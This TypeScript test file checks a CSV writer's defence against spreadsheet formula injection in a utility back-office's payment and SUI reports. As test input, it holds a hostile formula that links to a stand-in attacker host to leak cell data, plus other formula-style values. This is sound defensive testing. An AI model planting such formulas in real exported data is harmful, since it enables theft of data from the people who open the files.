/**
 * Issue 12 (low): CSV formula injection. Every CSV the product writes goes through one writer
 * (electron/core/documents/csv.ts): a text cell that starts with = + - @, a tab or a carriage return
 * gets a leading apostrophe, so the spreadsheet shows it instead of running it; the SUI's numeric
 * columns are validated as numbers instead (a file for the SUI must stay numeric).
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, textCell } from '../../electron/core/documents/csv';
import { SUI_CSV } from '../../electron/core/modules/pqrreports/suiFormatoA';
import { businessToday } from '../../electron/core/modules/accounts/service';
import { createInitializedBackOffice, createUserReady, loginAs, type TestBackOffice } from '../helpers/backoffice';
import { accountWithInvoices, copCount, createTill, payCash } from '../helpers/cashier';
import { causalId, filePqr } from '../helpers/pqr';

const decoded = (file: { base64: string }) => Buffer.from(file.base64, 'base64').toString('utf8');

describe('the one CSV writer', () => {
  it('defuses a text cell that starts with = + - @, a tab or a carriage return; others are left alone', () => {
    expect(textCell('=HYPERLINK("http://x.co","clic")')).toBe(`"'=HYPERLINK(""http://x.co"",""clic"")"`);
    expect(textCell('+57 310 452 8871')).toBe("'+57 310 452 8871");
    expect(textCell('-2+3')).toBe("'-2+3");
    expect(textCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(textCell('\t=1+1')).toBe("'\t=1+1");
    expect(textCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(textCell('＝1+1')).toBe("'＝1+1"); // full-width equals sign
    expect(textCell('María Peña = cajera')).toBe('María Peña = cajera');
    expect(textCell('2026-GAR-P-000001')).toBe('2026-GAR-P-000001');
  });

  it('numeric columns are written as numbers (negatives too) and a value that is not one refuses the file, naming row and column', () => {
    expect(csvText([['-5000', -5000, 'x']], { separator: ';', bom: false, numeric: [0, 1] })).toBe('-5000;-5000;x\r\n');
    const row = ['15', '15299', '15299000', '2026-GAR-P-000001', '03-09-2026', '1', 'F', '120', '100234', 'F-1', '9', '', '', '', '3', ''];
    expect(() => csvText([row, [...row.slice(0, 5), '=1+1', ...row.slice(6)]], SUI_CSV)).toThrow(
      'El valor «=1+1» de la columna «Tipo de trámite» (fila 2) no es un número: corrija el dato antes de generar el archivo.',
    );
  });
});

describe('the CSVs the product hands out', () => {
  let t: TestBackOffice & { adminToken: string; officeId: number };
  let coord: string;
  let today: string;

  beforeAll(async () => {
    t = await createInitializedBackOffice();
    coord = await loginAs(t, 'coordinador');
    today = await businessToday(t.app.db);
  });
  afterAll(async () => {
    await t.close();
  });

  it('recaudo: a cashier named like a formula shows as text in the CSV; the numbers stay numbers', async () => {
    const evil = '=HYPERLINK("http://robo.example/?d="&A1,"Ver detalle")';
    const token = await createUserReady(t, { fullName: evil, username: 'cajeroformula', officeId: t.officeId, role: 'cajero', password: 'clave-de-prueba' });
    const till = await createTill(t, 'C7');
    await t.ok('cashier.open', { tillId: till.id, count: copCount(50_000) }, token);
    const { accountId } = await accountWithInvoices(t, '100234', [54_300]);
    await payCash(t, token, accountId, 54_300, { received: 60_000 });

    const file = await t.ok('reports.recaudoFile', { from: today, to: today, format: 'csv' }, coord);
    const rows = parse(decoded(file).replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    expect(rows[0]).toEqual(['Fecha', 'Oficina', 'Cajero', 'Forma de pago', 'Pagos', 'Valor']);
    expect(rows[1]).toEqual([today, 'GAR', `'${evil}`, 'Efectivo', '1', '54300']);
  });

  it('SUI Formato A: an account number that starts like a formula is defused; a DANE code that is not a number refuses the file', async () => {
    const aux = await loginAs(t, 'auxiliar');
    const { accountId } = await accountWithInvoices(t, '100777', [10_000]);
    await t.app.db('accounts').where({ id: accountId }).update({ number: '@SUM(1+1)*cmd' });
    await filePqr(t, aux, { type: 'reclamo', accountId, causalId: await causalId(t, '120') });

    const { file } = await t.ok('pqrReports.suiFormatoA', { month: today.slice(0, 7) }, coord);
    const [row] = parse(decoded(file)) as string[][];
    expect(row).toHaveLength(16);
    expect(row[8]).toBe("'@SUM(1+1)*cmd");
    expect(row[0]).toBe('15');
    expect(row[5]).toBe('1');

    // an import that brought a DANE code with a formula: the file is refused, in Spanish, naming where
    await t.app.db('accounts').where({ id: accountId }).update({ city_dane: '=2+5' });
    expect(await t.call('pqrReports.suiFormatoA', { month: today.slice(0, 7) }, coord)).toEqual({
      ok: false,
      error: { code: 'RULE', message: 'El valor «0=» de la columna «DANE departamento» (fila 1) no es un número: corrija el dato antes de generar el archivo.' },
    });
  });
});
